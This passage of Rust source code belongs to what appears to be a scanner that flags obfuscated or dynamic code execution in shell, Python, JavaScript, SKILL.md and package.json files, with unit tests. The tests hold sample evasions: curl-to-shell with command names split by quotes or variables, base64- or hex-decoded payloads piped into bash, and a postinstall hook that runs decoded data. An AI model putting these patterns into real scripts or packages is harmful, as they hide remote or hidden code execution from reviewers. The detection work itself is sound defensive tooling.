            js_decoder(*a, src).or_else(|| {
                (a.kind() == "identifier")
                    .then(|| decoded_names.get(text(*a, src)).cloned())
                    .flatten()
            })
        });
        match decoder {
            Some(decoder) => push(
                Kind::Obfuscated,
                line_of(node, unit),
                format!("decoded code run: {shown} ({decoder})"),
            ),
            None => push(Kind::Dynamic, line_of(node, unit), shown),
        }
    }
}

fn js_literal(node: Node<'_>) -> bool {
    match node.kind() {
        "string" | "number" => true,
        "template_string" => !nodes(node).any(|n| n.kind() == "template_substitution"),
        _ => false,
    }
}

/// The first decoding call in `node`: `atob(…)`, `zlib.inflateSync(…)`,
/// `Buffer.from(x, "base64")`.
fn js_decoder(node: Node<'_>, src: &str) -> Option<String> {
    nodes(node).find_map(|n| {
        if n.kind() != "call_expression" {
            return None;
        }
        let function = text(n.child_by_field_name("function")?, src);
        let last = function.rsplit('.').next().unwrap_or(function);
        if JS_DECODERS.contains(&last) {
            return Some(function.to_owned());
        }
        let encoded = last == "from"
            && function.ends_with("Buffer.from")
            && n.child_by_field_name("arguments").is_some_and(|args| {
                let t = text(args, src);
                t.contains("base64") || t.contains("hex")
            });
        encoded.then(|| "Buffer.from(…, \"base64\")".to_owned())
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// (kind, what, file, line) of each finding.
    fn found(files: &[(&str, &str)]) -> Vec<(Kind, String, String, u32)> {
        analyze(&Sources::from_texts(files))
            .found
            .into_iter()
            .map(|f| (f.kind, f.evidence.what, f.evidence.file, f.evidence.line))
            .collect()
    }

    fn f(kind: Kind, what: &str, file: &str, line: u32) -> (Kind, String, String, u32) {
        (kind, what.to_owned(), file.to_owned(), line)
    }

    #[test]
    fn a_download_run_through_a_substitution_is_left_to_sensitivity() {
        // Homebrew's installer line: remote code, flagged once by `super::sensitive`; other
        // substitutions stay dynamic.
        let got = found(&[(
            "setup.sh",
            "/bin/bash -c \"$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)\"\nbash -c \"$(cat notes)\"\n",
        )]);
        assert_eq!(
            got,
            vec![f(Kind::Dynamic, "bash -c \"$(cat notes)\"", "setup.sh", 2)]
        );
    }

    #[test]
    fn the_shell_evasions_of_the_issue() {
        let got = found(&[(
            "run.sh",
            "#!/bin/bash\nc=cu; r=rl; $c$r -s https://x.example.net/p | s\"\"h\nbash -c \"$(echo aGk= | base64 -d)\"\necho aGk= | base64 --decode | 'b'ash\n",
        )]);
        assert_eq!(
            got,
            vec![
                f(
                    Kind::Obfuscated,
                    "command name assembled from variables: $c$r (runs curl)",
                    "run.sh",
                    2
                ),
                f(
                    Kind::Obfuscated,
                    "command name split by quotes: s\"\"h (runs sh)",
                    "run.sh",
                    2
                ),
                f(Kind::RemoteCode, "curl | sh", "run.sh", 2),
                f(
                    Kind::Obfuscated,
                    "decoded code run: bash -c \"$(echo aGk= | base64 -d)\" (base64)",
                    "run.sh",
                    3
                ),
                f(
                    Kind::Obfuscated,
                    "command name split by quotes: 'b'ash (runs bash)",
                    "run.sh",
                    4
                ),
                f(
                    Kind::Obfuscated,
                    "decoded code run: base64 | bash",
                    "run.sh",
                    4
                ),
            ]
        );
    }

    #[test]
    fn eval_and_variable_commands_escalate_and_idioms_say_so() {
        let got = found(&[(
            "setup.sh",
            "eval \"$(ssh-agent -s)\"\neval \"$(pyenv init -)\"\neval \"$cmd\"\n$PYTHON -m pip install x\nsh -c \"$1\"\necho \"$script\" | bash\nsource <(kubectl completion bash)\n",
        )]);
        assert_eq!(
            got,
            vec![
                f(
                    Kind::Dynamic,
                    "eval \"$(ssh-agent -s)\": runs the code ssh-agent prints (a setup idiom)",
                    "setup.sh",
                    1
                ),
                f(
                    Kind::Dynamic,
                    "eval \"$(pyenv init -)\": runs the code pyenv prints (a setup idiom)",
                    "setup.sh",
                    2
                ),
                f(Kind::Dynamic, "eval \"$cmd\"", "setup.sh", 3),
                f(
                    Kind::Dynamic,
                    "command name from a variable: $PYTHON",
                    "setup.sh",
                    4
                ),
                f(Kind::Dynamic, "sh -c \"$1\"", "setup.sh", 5),
                f(Kind::Dynamic, "code piped into bash", "setup.sh", 6),
                f(
                    Kind::Dynamic,
                    "source <(kubectl completion bash)",
                    "setup.sh",
                    7
                ),
            ]
        );
    }

    #[test]
    fn fixed_commands_and_words_containing_eval_are_not_flagged() {
        let got = found(&[
            (
                "run.sh",
                "#!/bin/sh\nexec \"$@\"\nexec node server.js\n\"$(dirname \"$0\")/helper.sh\" x\nevaluate x\nrun_eval y\nbash -c 'echo hi'\nfind . -exec sh -c 'echo \"$1\"' _ {} \\;\ncurl -s https://a.io | python3 -m json.tool\nout=$(base64 -d < in.b64)\n\\rm -f x\n\"$VENV/bin/python\" x.py\n",
            ),
            (
                "lib.py",
                "import re, ast\nre.compile(pattern)\nast.literal_eval(text)\nexec(\"print(1)\")\nmodel.eval()\n",
            ),
            (
                "a.js",
                "const r = /eval/;\nobj.eval(x);\nnew Function('a', 'return a');\nconst evaluate = (x) => x;\n",
            ),
        ]);
        assert_eq!(got, vec![]);
    }

    #[test]
    fn python_and_javascript_exec_of_decoded_data_is_obfuscation() {
        let got = found(&[
            (
                "x.py",
                "import base64, zlib\nexec(zlib.decompress(base64.b64decode(b\"eJw=\")))\ncode = base64.b64decode(blob)\nexec(code)\neval(expr)\ncompile(src, \"f\", \"exec\")\nexec(f\"print({x})\")\n",
            ),
            (
                "y.js",
                "eval(atob(s));\nconst c = Buffer.from(p, 'base64').toString();\nnew Function(c)();\neval(input);\nvm.runInNewContext(code);\n",
            ),
        ]);
        assert_eq!(
            got,
            vec![
                f(
                    Kind::Obfuscated,
                    "decoded code run: exec(zlib.decompress(base64.b64decode(b\"eJw=\"))) (zlib.decompress)",
                    "x.py",
                    2
                ),
                f(
                    Kind::Obfuscated,
                    "decoded code run: exec(code) (base64.b64decode)",
                    "x.py",
                    4
                ),
                f(Kind::Dynamic, "eval(expr)", "x.py", 5),
                f(Kind::Dynamic, "compile(src, \"f\", \"exec\")", "x.py", 6),
                f(Kind::Dynamic, "exec(f\"print({x})\")", "x.py", 7),
                f(
                    Kind::Obfuscated,
                    "decoded code run: eval(atob(s)) (atob)",
                    "y.js",
                    1
                ),
                f(
                    Kind::Obfuscated,
                    "decoded code run: new Function(c) (Buffer.from(…, \"base64\"))",
                    "y.js",
                    3
                ),
                f(Kind::Dynamic, "eval(input)", "y.js", 4),
                f(Kind::Dynamic, "vm.runInNewContext(code)", "y.js", 5),
            ]
        );
    }

    #[test]
    fn code_in_skill_md_fences_and_package_scripts_is_read() {
        let got = found(&[
            (
                "SKILL.md",
                "---\nname: x\n---\nRun eval on it, in prose.\n```bash\necho aGk= | base64 -d | sh\n```\n",
            ),
            (
                "package.json",
                "{\n  \"scripts\": {\n    \"postinstall\": \"echo $P | xxd -r -p | bash\"\n  }\n}\n",
            ),
            ("tests/helper.py", "exec(source)\n"),
        ]);
        assert_eq!(
            got,
            vec![
                f(
                    Kind::Obfuscated,
                    "decoded code run: base64 | sh",
                    "SKILL.md",
                    6
                ),
                f(
                    Kind::Obfuscated,
                    "decoded code run: xxd | bash",
                    "package.json",
                    3
                ),
            ]
        );
    }
}
